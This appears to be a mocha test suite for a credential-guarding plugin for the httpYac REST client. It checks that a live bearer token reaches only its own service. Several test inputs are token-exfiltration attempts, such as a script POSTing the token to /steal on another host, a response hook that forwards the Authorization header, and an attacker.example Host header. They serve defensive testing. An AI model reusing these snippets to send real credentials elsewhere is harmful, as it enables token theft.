// The door (issue 64), proven against httpyac 6.16.7's library: httpYac holds a reference, and the live
// token is put in by got itself, only as the Authorization header's Bearer credential on its way to the
// account's own origin. The shapes that carried the token elsewhere with no question (OAuth2's client
// secret, XPath split over two headers, a script's own `require('http')`, a redirect, file imports) now
// deliver nothing holding it to the other site (127.0.0.2), in any form; the twins still reach the
// service (127.0.0.1) with the live token and no question.
import * as assert from 'node:assert/strict';
import * as fc from 'fast-check';
import { countingServer, type CountingServer } from '../support/countingServer';
import { HttpyacRig, rigHost, type RigHost } from '../support/httpyacRig';
import { decideDoor, doorHooks, fitsHeader, mintReference, REFERENCE_HEADER, type ReferenceAccount } from '../../src/core/httpyac/door';
import { isJwtShaped, isSafeToken } from '../../src/core/util/tokenGrammar';
import { EarlierTokens } from '../../src/core/sessions/earlierTokens';

const TOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyIiwicm9sZSI6InVzZXIifQ.c2lnbmF0dXJlLW9mLXRoZS11c2Vy';
const ADMIN_TOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.c2lnbmF0dXJlLW9mLXRoZS1hZG1pbg';

type Received = CountingServer['received'][number];

/** Whether a request the server received holds `token`: as written, percent-decoded, in any base64 word (Basic credentials), or split across its header values. */
function holds(record: Received, token: string): boolean {
	const texts = [record.url, record.body, ...Object.entries(record.headers).flatMap(([name, value]) => [name, ...(Array.isArray(value) ? value : [String(value ?? '')])])];
	const decoded = texts.map((t) => { try { return decodeURIComponent(t); } catch { return t; } });
	const base64 = texts.flatMap((t) => [...t.matchAll(/[A-Za-z0-9+/_-]{16,}={0,2}/g)].map(([w]) => Buffer.from(w, 'base64').toString('utf8')));
	const readings = [...texts, ...decoded, ...base64, texts.join(''), Object.values(record.headers).join('')];
	return readings.some((t) => t.includes(token) || t.includes(Buffer.from(token).toString('base64')) || t.includes(Buffer.from(token).toString('base64url')));
}

describe('httpYac at the door: a reference in httpYac, the token put in by got (httpyac 6.16.7)', function () {
	this.timeout(60_000);
	let rig: HttpyacRig;
	let service: CountingServer;
	let other: CountingServer;
	let host: RigHost;
	let s: string;
	let o: string;

	before(async () => {
		rig = await HttpyacRig.start();
		service = await countingServer('127.0.0.1', 0, ({ url }) => {
			if (url.startsWith('/redirect')) return { status: 307, headers: { location: `${o}/landed` } };
			if (url.startsWith('/same')) return { status: 307, headers: { location: `${s}/v1/Me` } };
			return undefined;
		});
		other = await countingServer('127.0.0.2', 0, ({ url }) => (url.startsWith('/token') ? { status: 200, headers: { 'content-type': 'application/json' }, body: '{"access_token":"oauth-access-token","token_type":"bearer","expires_in":3600}' } : undefined));
		s = `http://127.0.0.1:${service.port}`;
		o = `http://127.0.0.2:${other.port}`;
		rig.write('secret.txt', 'X-From-File: {{TELEMATICS_TOKEN}}');
		rig.write('body.json', '{"token": "{{TELEMATICS_TOKEN}}"}');
	});
	beforeEach(() => {
		host = rigHost([
			{ id: 'u', name: 'user', label: 'User', variable: 'TELEMATICS_TOKEN_USER', active: true, tokens: [TOKEN], platformOrigins: [s] },
			{ id: 'a', name: 'admin', label: 'Admin', variable: 'TELEMATICS_TOKEN_ADMIN', active: false, tokens: [ADMIN_TOKEN], platformOrigins: [s] },
		], { u: TOKEN, a: ADMIN_TOKEN });
		rig.plugin(host);
	});
	afterEach(() => rig.plugin(undefined));
	after(async () => {
		rig.stop();
		await Promise.all([service.close(), other.close()]);
	});

	/** Sends `text`; the requests each server received meanwhile. */
	async function send(text: string): Promise<{ service: Received[]; other: Received[]; errors: string[] }> {
		const before = { service: service.received.length, other: other.received.length };
		const errors = await rig.send(text);
		return { service: service.received.slice(before.service), other: other.received.slice(before.other), errors };
	}

	const noTokenAt = (received: Received[]): void => {
		for (const r of received) for (const token of [TOKEN, ADMIN_TOKEN]) assert.ok(!holds(r, token), `${r.method} ${r.url} holds a live token: ${JSON.stringify(r.headers)} ${r.body}`);
	};

	describe('the four shapes that carried the token elsewhere', () => {
		it('OAuth2 client credentials with the variable as the client secret: the token endpoint gets the reference', async () => {
			const got = await send([
				'@oauth2_clientId = client',
				'@oauth2_clientSecret = {{TELEMATICS_TOKEN}}',
				`@oauth2_tokenEndpoint = ${o}/token`,
				'',
				`GET ${s}/v1/Me`,
				'Authorization: oauth2 client_credentials',
				'',
			].join('\n'));
			assert.equal(got.other.length, 1, `the token endpoint was asked: ${got.errors.join('\n')}`);
			noTokenAt(got.other);
			assert.ok(holds(got.other[0]!, REFERENCE_HEADER), 'the client secret it sent is the reference');
			assert.equal(got.service.at(-1)?.authorization, 'Bearer oauth-access-token', 'the service gets OAuth2\'s token, not ours');
		});

		it('XPath cutting the variable into two headers: the other site gets two pieces of the reference', async () => {
			const got = await send([
				'@doc = <t>{{TELEMATICS_TOKEN}}</t>',
				'',
				`GET ${o}/xpath`,
				'X-A: {{$xpath:doc substring(/t,1,40)}}',
				'X-B: {{$xpath:doc substring(/t,41)}}',
				'',
			].join('\n'));
			assert.equal(got.other.length, 1, got.errors.join('\n'));
			const pieces = `${String(got.other[0]!.headers['x-a'])}${String(got.other[0]!.headers['x-b'])}`;
			assert.ok(pieces.startsWith(REFERENCE_HEADER), `XPath did cut the reference: ${pieces}`);
			noTokenAt(got.other);
			assert.deepEqual(host.asked, [], 'a piece of a reference is no token: no question');
			assert.ok(host.logs.some((l) => l.includes('a piece or an encoding of the reference for user')), 'said once');
		});

		it('a script posting the variable with require(\'http\'): the other site gets the reference, the service the token', async () => {
			const got = await send([
				'{{',
				'  const http = require(\'http\');',
				`  await new Promise((resolve) => { const req = http.request('${o}/steal', { method: 'POST' }, (res) => { res.resume(); res.on('end', resolve); }); req.on('error', resolve); req.end(TELEMATICS_TOKEN); });`,
				'}}',
				'',
				`GET ${s}/v1/Me`,
				'Authorization: Bearer {{TELEMATICS_TOKEN}}',
				'',
			].join('\n'));
			assert.equal(got.other.length, 1, `the script posted: ${got.errors.join('\n')}`);
			assert.ok(got.other[0]!.body.startsWith(REFERENCE_HEADER), got.other[0]!.body);
			noTokenAt(got.other);
			assert.equal(got.service.at(-1)?.authorization, `Bearer ${TOKEN}`, 'the script\'s own request to the service carries the live token');
			assert.deepEqual(host.asked, []);
		});

		it('a custom header to the service, answered with a 307 to another site: asked, and on Cancel nobody gets anything', async () => {
			const got = await send(`GET ${s}/redirect\nX-Token: {{TELEMATICS_TOKEN}}\n`);
			assert.equal(host.asked.length, 1);
			assert.match(host.asked[0]!, /not as the Bearer credential/);
			assert.equal(got.service.length + got.other.length, 0);
		});

		it('the Authorization header to the service, answered with a 307 to another site: the other site gets no token', async () => {
			const got = await send(`GET ${s}/redirect\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`);
			assert.equal(got.service[0]?.authorization, `Bearer ${TOKEN}`, 'the service got the token');
			assert.equal(got.other.length, 1, 'got followed the redirect');
			noTokenAt(got.other);
			assert.deepEqual(host.asked, []);
		});
	});

	describe('the review\'s others', () => {
		it('<@ and <@base64 body imports, {{<@ file}} and {{<@hex file}} imports of a file using the variable: nothing holds the token', async () => {
			for (const text of [
				`POST ${o}/import\nContent-Type: application/json\n\n<@ ./body.json\n`,
				`POST ${o}/import\nContent-Type: text/plain\n\n<@base64 ./body.json\n`,
				`GET ${o}/import\nX-Imported: {{<@hex ./secret.txt}}\n`,
			]) {
				host.answers.length = 0;
				const got = await send(text);
				noTokenAt(got.other);
			}
			// `<@ ./body.json` holds the reference intact: asked, and Cancel sent nothing.
			assert.equal(host.asked.length, 1, host.asked.join('\n---\n'));
		});

		it('a literal earlier token (still valid after a refresh) to another site is asked about', async () => {
			const earlier = new EarlierTokens();
			earlier.note('u', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyIn0.ZWFybGllci10b2tlbg', Date.UTC(2030, 0, 1));
			const h = rigHost([{ id: 'u', name: 'user', label: 'User', variable: 'TELEMATICS_TOKEN_USER', active: true, tokens: [TOKEN, ...earlier.of('u', Date.UTC(2029, 0, 1))], platformOrigins: [s] }], { u: TOKEN });
			rig.plugin(h);
			const got = await send(`GET ${o}/v1/Me\nAuthorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyIn0.ZWFybGllci10b2tlbg\n`);
			assert.equal(h.asked.length, 1);
			assert.equal(got.other.length, 0);
		});

		it('what httpYac records with the response (log, history, response view) holds the reference, not the token', async () => {
			const logged = rig.logged.length;
			const got = await send(`GET ${s}/same\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`);
			assert.equal(got.service.length, 2, 'a redirect to the same origin, followed');
			assert.ok(got.service.every((r) => r.authorization === `Bearer ${TOKEN}`), 'the token went in for both');
			const records = JSON.stringify([rig.logged.slice(logged), rig.lastFile!.httpRegions.map((r) => r.response)]);
			assert.ok(!records.includes(TOKEN), 'no record holds the token');
			assert.ok(records.includes(REFERENCE_HEADER), 'the records show the reference');
		});
	});

	describe('twins: no question, the live token at the service', () => {
		for (const [name, text] of [
			['{{TELEMATICS_TOKEN}} in the Authorization header', () => `GET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`],
			['a named account', () => `GET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN_USER}}\n`],
			['a {{@request}} script re-aiming the request at the service', () => `{{@request\n  request.url = '${s}/v1/Me';\n}}\n\n###\nGET ${o}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`],
			['the scheme in small letters', () => `GET ${s}/v1/Me\nAuthorization: bearer {{TELEMATICS_TOKEN}}\n`],
		] as const) {
			it(name, async () => {
				const got = await send(text());
				assert.equal(got.service.at(-1)?.authorization.replace(/^bearer/, 'Bearer'), `Bearer ${TOKEN}`, got.errors.join('\n'));
				assert.equal(got.other.length, 0);
				assert.deepEqual(host.asked, []);
			});
		}

		it('the admin\'s variable sends the admin\'s token', async () => {
			const got = await send(`GET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN_ADMIN}}\n`);
			assert.equal(got.service.at(-1)?.authorization, `Bearer ${ADMIN_TOKEN}`);
		});
	});

	describe('an intact reference going elsewhere asks', () => {
		for (const [name, text] of [
			['to another site in the Authorization header', () => `GET ${o}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`],
			['to another site in the query', () => `GET ${o}/v1/Me?t={{TELEMATICS_TOKEN}}\n`],
			['to the service in the body', () => `POST ${s}/v1/Me\nContent-Type: application/json\n\n{"t": "{{TELEMATICS_TOKEN}}"}\n`],
			['to the service through a proxy no one set', () => `# @proxy ${o}\nGET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`],
			['to the service with certificate checks off', () => `# @noRejectUnauthorized\nGET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`],
			['to the service with a got option that moves it', () => `{{@request\n  request.options.hostname = '127.0.0.2';\n}}\n\n###\nGET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`],
		] as const) {
			it(`${name}: on Cancel nothing is sent`, async () => {
				const got = await send(text());
				assert.equal(host.asked.length, 1, got.errors.join('\n'));
				assert.match(host.asked[0]!, /user \(User\)/);
				assert.equal(got.service.length + got.other.length, 0);
				assert.ok(host.logs.at(-1)?.includes('stopped the request'));
			});
		}

		it('"Send Anyway" sends the token once, where it was', async () => {
			host.answers.push(true);
			const got = await send(`GET ${o}/v1/Me\nX-Token: {{TELEMATICS_TOKEN}}\n`);
			assert.equal(got.other.length, 1);
			assert.equal(got.other[0]!.headers['x-token'], TOKEN);
			const again = await send(`GET ${o}/v1/Me\nX-Token: {{TELEMATICS_TOKEN}}\n`);
			assert.equal(again.other.length, 0, 'the next send asks again, and Cancel sends nothing');
			assert.equal(host.asked.length, 2);
		});
	});

	describe('the review\'s findings', () => {
		it('a Host header naming another host: asked (a shared front end routes by it), and on Cancel nothing is sent', async () => {
			for (const text of [`GET ${s}/v1/Me\nHost: attacker.example\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`, `GET ${s}/v1/Me\nHost: attacker.example\nAuthorization: Bearer ${TOKEN}\n`]) {
				host.asked.length = 0;
				const got = await send(text);
				assert.equal(host.asked.length, 1, text);
				assert.equal(got.service.length + got.other.length, 0);
			}
			const got = await send(`GET ${s}/v1/Me\nHost: 127.0.0.1:${service.port}\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`);
			assert.equal(got.service.at(-1)?.authorization, `Bearer ${TOKEN}`, 'the URL\'s own host is no reason');
		});

		it('"Send Anyway" follows no redirect, and what httpYac records holds the reference', async () => {
			host.answers.push(true);
			const logged = rig.logged.length;
			const got = await send(`POST ${s}/redirect\nX-Token: {{TELEMATICS_TOKEN}}\nContent-Type: application/json\n\n{"t": "{{TELEMATICS_TOKEN}}"}\n`);
			assert.equal(host.asked.length, 1);
			assert.equal(got.service[0]?.headers['x-token'], TOKEN, 'the service got what the person agreed to');
			assert.equal(got.other.length, 0, 'the redirect elsewhere was not followed');
			const records = JSON.stringify([rig.logged.slice(logged), rig.lastFile!.httpRegions.map((r) => r.response)]);
			assert.ok(!records.includes(TOKEN), 'no record holds the token');
		});

		it('a token written in the file, sent to its service, goes nowhere else on a redirect', async () => {
			const got = await send(`GET ${s}/redirect\nX-Api-Token: ${TOKEN}\n`);
			assert.equal(got.service.length, 1);
			assert.equal(got.other.length, 0, 'the redirect was stopped');
			assert.deepEqual(host.asked, []);
		});

		it('a request imported from other files asks once', async () => {
			rig.write('one.http', `GET ${s}/one\n`);
			rig.write('two.http', `GET ${s}/two\n`);
			host.answers.push(true, true, true);
			await send(`# @import ./one.http\n# @import ./two.http\nGET ${o}/v1/Me\nX-Token: {{TELEMATICS_TOKEN}}\n`);
			assert.equal(host.asked.length, 1);
		});

		it('a script\'s own afterResponse hook sees the reference: ours puts it back first', async () => {
			const got = await send([
				'{{@request',
				'  request.options.hooks = request.options.hooks || {};',
				`  request.options.hooks.afterResponse = [async (response) => { await new Promise((resolve) => { const req = require('http').request('${o}/hook', { method: 'POST' }, (res) => { res.resume(); res.on('end', resolve); }); req.on('error', resolve); req.end(String(response.request.options.headers.authorization)); }); return response; }];`,
				'}}',
				'',
				'###',
				`GET ${s}/v1/Me`,
				'Authorization: Bearer {{TELEMATICS_TOKEN}}',
				'',
			].join('\n'));
			assert.equal(got.service.at(-1)?.authorization, `Bearer ${TOKEN}`);
			assert.equal(got.other.length, 1, got.errors.join('\n'));
			noTokenAt(got.other);
		});

		it('a function in a read got option (retry.calculateDelay) makes the option unread: asked', async () => {
			const got = await send(`{{@request\n  request.options.retry = { limit: 1, calculateDelay: () => 0 };\n}}\n\n###\nGET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`);
			assert.equal(host.asked.length, 1);
			assert.match(host.asked[0]!, /options\.retry/);
			assert.equal(got.service.length, 0);
		});

		it('a script setting HTTP_PROXY does not make its proxy the person\'s: asked', async () => {
			const saved = { HTTP_PROXY: process.env.HTTP_PROXY, httpProxy: process.env.httpProxy };
			try {
				const got = await send(`{{\n  process.env.HTTP_PROXY = '${o}';\n  process.env.httpProxy = '${o}';\n}}\nGET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`);
				assert.equal(host.asked.length, 1, got.errors.join('\n'));
				assert.equal(got.other.length + got.service.length, 0);
			} finally {
				for (const [k, v] of Object.entries(saved)) if (v === undefined) delete process.env[k]; else process.env[k] = v;
			}
		});
	});

	it('an account with no live token at the door: nothing is sent, and httpYac says why', async () => {
		const h = rigHost([{ id: 'u', name: 'user', label: 'User', variable: 'TELEMATICS_TOKEN_USER', active: true, tokens: [TOKEN], platformOrigins: [s] }], { u: TOKEN });
		rig.plugin(h);
		let reads = 0;
		h.liveToken = async () => (++reads === 1 ? TOKEN : undefined);
		const got = await send(`GET ${s}/v1/Me\nAuthorization: Bearer {{TELEMATICS_TOKEN}}\n`);
		assert.equal(got.service.length, 0);
		assert.ok(h.logs.some((l) => l.includes('has no live token now')));
	});
});

describe('the door\'s parts', () => {
	const account = (reference: string, origins = ['https://api.example']): ReferenceAccount => ({ id: 'u', name: 'user', label: 'User', reference, platformOrigins: origins });
	const request = (over: Partial<Parameters<typeof decideDoor>[0]> = {}): Parameters<typeof decideDoor>[0] => ({ url: 'https://api.example/v1/Me', headers: [], certificatesOff: false, ...over });

	it('a reference is in the token\'s grammar, JWT-shaped, and unique', () => {
		const a = mintReference('user');
		const b = mintReference('user');
		assert.ok(isSafeToken(a) && isJwtShaped(a));
		assert.notEqual(a, b);
		assert.ok(a.startsWith(`${REFERENCE_HEADER}.`));
	});

	it('lets in at the door exactly what the token grammar takes (generated)', () => {
		fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...'aZ09-_.~+/=\r\n "\'{}:;%\u2028'.split('')), maxLength: 40 }), (text) => fitsHeader(text) === isSafeToken(text)));
		assert.ok(!fitsHeader('a'.repeat(8 * 1024 + 1)) && fitsHeader('a'.repeat(8 * 1024)));
	});

	it('swaps only the Authorization header\'s whole Bearer credential (generated headers)', () => {
		const ref = mintReference('user');
		fc.assert(fc.property(fc.constantFrom('Authorization', 'authorization', 'X-Token', 'Proxy-Authorization'), fc.constantFrom('Bearer ', 'bearer  ', 'Basic ', 'Bearer x', ''), fc.constantFrom('', ' ', 'x'), (name, prefix, suffix) => {
			const value = `${prefix}${ref}${suffix}`;
			const d = decideDoor(request({ headers: [[name, value]] }), [account(ref)], undefined, true);
			const whole = name.toLowerCase() === 'authorization' && /^bearer +$/i.test(prefix) && suffix.trim() === '';
			assert.equal(d.swap !== undefined, whole, `${name}: ${value}`);
			assert.equal(d.asked.length, whole ? 0 : 1);
		}));
	});

	it('never swaps for another protocol than HTTP, a second Authorization, or a reference also elsewhere', () => {
		const ref = mintReference('user');
		const auth: [string, string] = ['Authorization', `Bearer ${ref}`];
		const sse = decideDoor(request({ headers: [auth] }), [account(ref)], undefined, false);
		assert.deepEqual([sse.swap, sse.asked, sse.unseen.map((a) => a.id)], [undefined, [], ['u']], 'WebSocket, SSE…: the reference goes, unasked, said once');
		assert.equal(decideDoor(request({ headers: [auth, ['authorization', 'Bearer x']] }), [account(ref)], undefined, true).swap, undefined);
		assert.equal(decideDoor(request({ headers: [auth], body: ref }), [account(ref)], undefined, true).swap, undefined);
		assert.equal(decideDoor(request({ headers: [auth], url: `https://api.example/?r=${ref}` }), [account(ref)], undefined, true).swap, undefined);
		assert.equal(decideDoor(request({ headers: [auth], proxy: 'http://127.0.0.1:8080' }), [account(ref)], 'http://127.0.0.1:8080/', true).swap?.id, 'u', 'the person\'s proxy');
	});

	it('got\'s hooks: the token only for the account\'s origins, the reference back in what got hands back', () => {
		const ref = mintReference('user');
		const hooks = doorHooks(ref, TOKEN, ['https://api.example'], false);
		const options = { url: new URL('https://api.example/v1/Me'), headers: { authorization: `Bearer ${ref}` } as Record<string, unknown> };
		hooks.beforeRequest(options);
		assert.equal(options.headers.authorization, `Bearer ${TOKEN}`);
		// A redirect to the same host and port by another scheme: got keeps the header; the door does not.
		hooks.beforeRedirect(options);
		assert.equal(options.headers.authorization, `Bearer ${ref}`);
		options.url = new URL('http://api.example/v1/Me');
		hooks.beforeRequest(options);
		assert.equal(options.headers.authorization, `Bearer ${ref}`);
		options.url = new URL('https://api.example/v1/Me');
		hooks.beforeRequest(options);
		assert.equal(hooks.afterResponse({ request: { options } }).request.options.headers.authorization, `Bearer ${ref}`);
		hooks.beforeRequest(options);
		assert.equal(hooks.beforeError({ options }).options.headers.authorization, `Bearer ${ref}`);
		// A header another hook changed is left alone.
		options.headers.authorization = 'Basic abc';
		hooks.beforeRequest(options);
		assert.equal(options.headers.authorization, 'Basic abc');
	});

	it('earlier tokens are known until they expire, a logged-out account\'s too (the service revokes none)', () => {
		const earlier = new EarlierTokens();
		earlier.note('u', 'old', 1_000, 'user');
		earlier.note('u', 'new', 5_000);
		earlier.note('a', 'admin', 5_000, 'admin');
		assert.deepEqual(earlier.of('u', 999), ['old', 'new']);
		assert.deepEqual(earlier.of('u', 1_000), ['new']);
		assert.deepEqual(earlier.accounts(1_000), [{ id: 'u', name: 'user', tokens: ['new'] }, { id: 'a', name: 'admin', tokens: ['admin'] }]);
		assert.deepEqual(earlier.accounts(5_000), [], 'gone at their expiry');
		for (let i = 0; i < 100; i++) earlier.note('u', `t${i}`, 9_000);
		assert.equal(earlier.of('u', 0).length, 64, 'bounded');
	});
});
